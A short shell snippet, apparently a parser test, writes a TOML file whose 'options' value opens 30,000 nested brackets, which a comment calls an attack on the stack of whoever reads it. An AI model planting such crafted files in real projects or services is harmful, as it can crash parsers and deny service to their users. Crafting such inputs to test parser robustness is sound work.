# attack: brackets within brackets, for the stack of whoever reads them
mkdir bot
{ echo 'run = "sh play.sh"'; printf 'options = { a = '; head -c 30000 /dev/zero | tr '\0' '['; echo; } > bot/skirmish.toml
